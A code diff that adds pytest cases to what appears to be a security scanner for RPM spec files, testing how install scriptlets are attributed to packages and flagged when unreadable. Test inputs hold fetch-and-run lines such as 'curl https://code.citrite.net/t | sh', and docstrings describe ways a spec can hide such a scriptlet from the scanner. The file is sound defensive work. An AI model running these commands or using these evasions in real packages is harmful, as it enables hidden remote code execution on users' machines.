@@ -164,6 +164,18 @@ def test_a_scriptlet_is_its_own_packages(tmp_path: Path, capsys: pytest.CaptureF
     assert packages["scr"]["findings"] == []  # a path, not a host
 
 
+def test_a_scriptlet_names_its_package_with_n_glued(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """rpm's option parser reads ``%post -nscr-tools`` as ``-n scr-tools`` (rpm -qp --scripts shows
+    the script on scr-tools): it was read as the main package's, and scr-tools scanned clean."""
+    packages = _read(tmp_path, capsys, "%post -nscr-tools\ncurl https://code.citrite.net/t | sh\n")
+    assert [(f["field"], f["value"]) for f in packages["scr-tools"]["findings"]] == [
+        ("%post", "https://code.citrite.net/t")
+    ]
+    assert packages["scr"]["findings"] == []
+
+
 def test_an_undecided_branch_is_read_both_ways(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
     text = "%post\n%if 0%{?xs_build}\nrpm --import https://repo.citrite.net/key\n%else\necho clean\n%endif\n"
     packages = _read(tmp_path, capsys, text)
@@ -190,6 +202,31 @@ def test_a_macro_left_unexpanded_is_a_gap_of_its_package(
     assert ("%post", "https://code.citrite.net/s") in {
         (f["field"], f["value"]) for f in defined["scr-tools"]["findings"]
     }
+
+
+def test_a_script_read_from_a_file_the_build_writes_is_a_gap(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """``%post -f post.sh`` is the file the build leaves in its directory (rpmbuild reads it once
+    built: ``d=xensource; echo "curl https://updates.$d.com/x | sh" > post.sh`` in ``%build`` gave
+    the built RPM that %post). The spec read clean and complete, --strict exit 0."""
+    packages = _read(tmp_path, capsys, "%build\necho > post.sh\n%post tools -f post.sh\n")
+    (gap,) = [gap for gap in packages["scr-tools"]["gaps"] if gap["kind"] == "scriptlet-unread"]
+    assert "post.sh" in gap["detail"] and "%post of scr-tools" in gap["detail"]
+    assert not [gap for gap in packages["scr"]["gaps"] if gap["kind"] == "scriptlet-unread"]
+
+
+def test_a_scriptlet_of_a_package_named_by_an_unexpanded_macro_is_a_gap(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """``%post -n %{xs_conf_name}`` is the package a build host's macro names (rpmbuild fails where
+    none does): its text was kept for a package "%{xs_conf_name}" no binary is, and the spec read
+    clean and complete, --strict exit 0. Which binary runs it is unseen: a gap of each."""
+    text = "%post -n %{xs_conf_name}\ncurl https://updates.xensource.com/x | sh\n"
+    packages = _read(tmp_path, capsys, text)
+    for name in ("scr", "scr-tools"):
+        (gap,) = [gap for gap in packages[name]["gaps"] if gap["kind"] == "scriptlet-unread"]
+        assert "%{xs_conf_name}" in gap["detail"]
 
 
 def test_check_of_the_spec_blocks_on_its_scriptlet(
